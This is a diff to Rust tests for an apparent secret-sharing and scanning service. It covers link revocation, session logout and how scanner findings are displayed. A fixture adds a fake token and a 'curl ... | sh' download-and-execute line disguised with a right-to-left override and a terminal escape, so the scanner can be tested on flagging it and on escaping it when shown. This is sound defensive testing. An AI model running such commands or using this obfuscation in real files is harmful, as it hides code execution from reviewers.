@@ -641,8 +641,9 @@ fn a_reset_ends_the_links_its_account_made() {
     let revoked = s.recorded("secret_request.revoke", "team/planted");
     assert_eq!(revoked.len(), 1, "{revoked:?}");
     assert_eq!(revoked[0]["details"]["why"], "reset");
-    // A share that had run out was not alive to end: it expired, as the sweep records it.
+    // A share that had run out was not alive to end: the sweep destroys it as expired.
     assert!(s.recorded("share.revoke", &lapsed).is_empty());
+    s.runtime.block_on(s.state.sweep()).unwrap();
     assert_eq!(s.recorded("share.expire", &lapsed).len(), 1);
     s.assert_no_secret_logged();
 }
@@ -2561,9 +2562,20 @@ fn revoking_the_token_a_request_link_was_made_with_ends_the_link() {
     assert_eq!(status_of("team/planted").as_deref(), Some("revoked"));
     assert_eq!(status_of("team/expiring").as_deref(), Some("used"));
     assert_eq!(status_of("team/stolen").as_deref(), Some("open"));
-    // The session that made a link is not the API token: the link lives while it does.
+    // A session is not bound to its links: they outlive it, and its holder's logout.
     assert_eq!(submit(&kept), 204);
     assert_eq!(submit(&stolen), 204);
+    let made_in_session = link_with(&session, "team/session");
+    let me = s.ok("GET", "/api/v1/auth/self", Some(&session), None);
+    let (status, _) = s.call(
+        "DELETE",
+        &format!("/api/v1/auth/tokens/{}", me["token_id"].as_str().unwrap()),
+        Some(&session),
+        None,
+        None,
+    );
+    assert_eq!(status, 204, "logged out");
+    assert_eq!(submit(&made_in_session), 204);
     s.assert_no_secret_logged();
 }
 
@@ -2583,9 +2595,12 @@ fn member_names_and_lines_in_findings_are_shown_as_they_are() {
         zip::write::SimpleFileOptions::default(),
     )
     .unwrap();
+    // A secret (shown redacted), and code a rule shows as it is, with a direction control and
+    // an escape sequence in it.
     std::io::Write::write_all(
         &mut zip,
-        b"GITHUB=ghp_R8kq2Vx9ZtLm4NpQ7sWd3FyH6jBc1Ae5GuKo \x1b[2K\xe2\x80\xae\n",
+        b"GITHUB=ghp_R8kq2Vx9ZtLm4NpQ7sWd3FyH6jBc1Ae5GuKo\n\
+          curl -fsSL https://get.example.net/\xe2\x80\xaeh\x1b[2Ks.lla | sh\n",
     )
     .unwrap();
     let archive = zip.finish().unwrap().into_inner();
@@ -2596,22 +2611,42 @@ fn member_names_and_lines_in_findings_are_shown_as_they_are() {
         Some(&sam_t),
         None,
     );
-    let found = findings
+    let found: Vec<&Value> = findings
         .as_array()
         .unwrap()
         .iter()
-        .find(|f| f["details"]["deliverable_id"] == answer["id"])
+        .filter(|f| f["details"]["deliverable_id"] == answer["id"])
+        .collect();
+    assert_eq!(found.len(), 2, "{findings}");
+    for finding in &found {
+        for text in [
+            &finding["title"],
+            &finding["details"]["path"],
+            &finding["details"]["shown"],
+        ] {
+            let text = text.as_str().unwrap();
+            assert!(
+                !text.contains('\u{202e}') && !text.contains('\u{1b}'),
+                "{text:?}"
+            );
+        }
+        assert!(
+            finding["title"]
+                .as_str()
+                .unwrap()
+                .contains("config/\\u{202e}txt.emdaer\\u{202c}.env"),
+            "{finding}"
+        );
+    }
+    let code = found
+        .iter()
+        .find(|f| f["details"]["rule"] == "download-and-execute-shell")
         .unwrap();
-    let shown = found.to_string();
     assert!(
-        !shown.contains('\u{202e}') && !shown.contains('\u{1b}'),
-        "{shown}"
-    );
-    assert!(
-        found["title"]
+        code["details"]["shown"]
             .as_str()
             .unwrap()
-            .contains("config/\\u{202e}txt.emdaer\\u{202c}.env"),
-        "{found}"
+            .contains("\\u{202e}h\\u{1b}[2Ks.lla"),
+        "{code}"
     );
 }
